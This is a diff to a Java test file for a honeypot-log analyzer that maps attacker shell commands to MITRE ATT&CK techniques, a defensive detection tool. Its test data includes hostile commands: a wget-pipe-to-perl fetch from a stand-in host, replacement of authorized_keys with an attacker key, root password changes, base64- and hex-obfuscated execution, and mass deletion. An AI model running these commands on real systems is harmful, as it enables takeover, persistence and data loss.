@@ -2,11 +2,8 @@ package io.github.cowriekit.analysis;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
-import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
-import io.github.cowriekit.model.assessment.Confidence;
 import io.github.cowriekit.model.assessment.TechniqueMatch;
-import io.github.cowriekit.parser.CowrieLog;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -17,10 +14,10 @@ import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvFileSource;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class AttackRulesTest {
     private static final AttackRules RULES = AttackRules.standard();
-    private static final Path RECORDED = Path.of("..", "..", "shared", "cowrie3", "plain");
 
     @TempDir
     private Path folder;
@@ -55,12 +52,12 @@ class AttackRulesTest {
             value = {
                 "uname -s -v -n -r -m ! T1082",
                 "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA x\">>.ssh/authorized_keys && chmod -R go= ~/.ssh ! "
-                        + "T1070.004 T1098.004",
+                        + "T1070.004 T1098.004 T1222.002",
                 "cd ~ && chmod 700 .ssh && cat k >> .ssh/authorized_keys ! T1098.004 T1222.002",
                 "echo \"root:x\"|chpasswd|bash ! T1059.004 T1098",
                 "wget -qO - http://192.0.2.7/csx/perlNIK|perl ! T1059 T1105",
-                "echo > /etc/hosts.deny ! T1562.004",
-                "crontab -l ! T1053.003",
+                "echo > /etc/hosts.deny ! T1686",
+                "crontab -l ! ''",
                 "lspci | grep VGA ! T1082",
                 "exit ! ''",
             })
@@ -90,39 +87,129 @@ class AttackRulesTest {
         assertThat(RULES.match("chmod x; ls 755"))
                 .extracting(match -> match.rule().id())
                 .doesNotContain("A42");
-        assertThat(RULES.match("echo 'chmod; 755'"))
-                .extracting(match -> match.rule().id())
-                .contains("A42");
+        assertThat(RULES.match("echo 'chmod 755 x'")).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "cat /etc/crontab",
+                "ls ~/.ssh/authorized_keys",
+                "cat rc.local",
+                "source ~/.bashrc",
+                "ls /tmp/xmrig",
+                "rm -rf *",
+                "rm -f /tmp/ps",
+                "rm -rf xmrig*",
+                "rm -f /tmp/secure.sh",
+                "echo top",
+                "docker ps",
+                "which nmap nc",
+                "apt-get install nmap",
+                "cat /etc/ssh/sshd_config",
+            })
+    void takesReadingListingAndNamingForNoChange(String command) {
+        assertThat(RULES.match(command))
+                .extracting(match -> match.rule().technique())
+                .doesNotContain(
+                        "T1098",
+                        "T1098.004",
+                        "T1053.003",
+                        "T1037.004",
+                        "T1546.004",
+                        "T1496.001",
+                        "T1561",
+                        "T1485",
+                        "T1685.006",
+                        "T1046",
+                        "T1057",
+                        "T1072");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "whoami",
+                "/usr/bin/whoami",
+                "/bin/./whoami",
+                "sudo whoami",
+                "sudo -u root whoami",
+                "env A=b whoami",
+                "A=b whoami",
+                "nohup whoami &",
+                "busybox whoami",
+                "/bin/busybox whoami",
+                "sh -c 'whoami'",
+                "sh -c \"sh -c 'whoami'\"",
+                "su -c whoami",
+                "timeout 5 whoami",
+                "echo x | xargs whoami",
+                "find / -name x -exec whoami {} \\;",
+                "echo $(whoami)",
+                "echo `whoami`",
+                "echo \"a $(whoami)\"",
+                "(cd /tmp && whoami)",
+                "if true; then whoami; fi",
+                "for i in a b; do whoami; done",
+                "case $x in a) whoami;; esac",
+                "echo whoami | sh",
+                "sh <<< whoami",
+                "sh <<EOF\nwhoami\nEOF",
+                "echo d2hvYW1p | base64 -d | sh",
+                "echo ZDJodllXMXAK | base64 -d | base64 -d | sh",
+                "base64 -d <<< d2hvYW1p | bash",
+                "eval \"$(echo d2hvYW1p | base64 --decode)\"",
+                "echo 77686f616d69 | xxd -r -p | sh",
+                "echo -e '\\x77\\x68\\x6f\\x61\\x6d\\x69' | sh",
+                "#!/bin/sh; whoami",
+                "false || whoami",
+                "whoami 2>/dev/null",
+            })
+    void seesTheProgramThatRuns(String command) {
+        assertThat(RULES.match(command))
+                .extracting(match -> match.rule().technique())
+                .contains("T1033");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "$(",
+                "`",
+                "<<a ",
+                "${",
+                "'\"",
+                "((",
+                "echo \\x41 | ",
+                "a=$a$a;",
+                "sh -c \"sh -c '",
+                ";;case x in ",
+                ">>",
+                "\n<<x\n",
+                "base64 -d <<< QUFB | ",
+            })
+    void staysLinearWhateverALineHolds(String part) {
+        // a quadratic reader would need minutes for this, and a naive one the heap
+        String line = part.repeat(200_000 / part.length());
+
+        assertThat(RULES.match(line)).hasSizeLessThan(20);
     }
 
     @Test
-    void saysOfReadingACrontabThatItMeansLittle() {
-        assertThat(RULES.match("crontab -l"))
-                .extracting(match -> match.rule().confidence())
-                .containsExactly(Confidence.LOW);
-    }
+    void saysWhichOldIdsItUnderstood() throws IOException {
+        Path file = folder.resolve("rules.tsv");
+        Files.writeString(file, RULES.text().replace("\tT1685.006\t", "\tT1070.002\t"));
+        AttackRules old = AttackRules.load(file);
 
-    @Test
-    void findsWhatTheSlowWayFinds() throws IOException {
-        assumeTrue(Files.isDirectory(RECORDED), "no real sessions beside the project at " + RECORDED + ": skipped");
-        Path unfiltered = folder.resolve("slow.tsv");
-        Files.writeString(
-                unfiltered,
-                RULES.text()
-                        .lines()
-                        .map(line -> {
-                            String[] cells = line.split("\t", -1);
-                            cells[3] = cells[3].equals("needs") ? "needs" : "-";
-                            return String.join("\t", cells);
-                        })
-                        .collect(Collectors.joining("\n")));
-        AttackRules slow = AttackRules.load(unfiltered);
-
-        try (var sessions = CowrieLog.in(RECORDED).onProblem(problem -> {}).sessions()) {
-            sessions.flatMap(session -> session.commands().stream())
-                    .forEach(
-                            command -> assertThat(RULES.match(command.input())).isEqualTo(slow.match(command.input())));
-        }
+        assertThat(RULES.notices()).isEmpty();
+        assertThat(old.notices())
+                .isNotEmpty()
+                .allSatisfy(notice -> assertThat(notice)
+                        .startsWith("rules.tsv line ")
+                        .contains("T1070.002 was withdrawn; read as T1685.006"));
+        assertThat(old.match("rm -rf /var/log/wtmp"))
+                .extracting(match -> match.rule().technique())
+                .contains("T1685.006");
     }
 
     @Test
@@ -137,13 +224,15 @@ class AttackRulesTest {
     @CsvSource(
             delimiter = '!',
             value = {
-                "3  ! (x            ! no regular expression of RE2",
-                "3  ! x*            ! fits everything",
-                "3  ! a(?=b)        ! no regular expression of RE2",
-                "2  ! somewhere     ! scope must be one of command, line, event",
-                "5  ! 1082          ! technique must look like",
-                "11 ! certain       ! confidence must be one of low, medium, high",
-                "9  ! later         ! stage must be one of",
+                "3  ! (x            ! program is no regular expression of RE2",
+                "3  ! *             ! fits every command",
+                "4  ! a(?=b)        ! arguments is no regular expression of RE2",
+                "2  ! somewhere     ! scope must be one of command, event",
+                "7  ! /etc/passwd   ! file must look like",
+                "7  ! eat:x         ! file must be one of read, write, remove, change, list",
+                "8  ! T9999         ! no technique \"T9999\" in ATT&CK Enterprise",
+                "12 ! certain       ! confidence must be one of low, medium, high",
+                "10 ! later         ! stage must be one of",
             })
     void rejectsNonsenseByLine(int column, String text, String why) throws IOException {
         String[] cells = RULES.text().lines().toList().get(1).split("\t", -1);
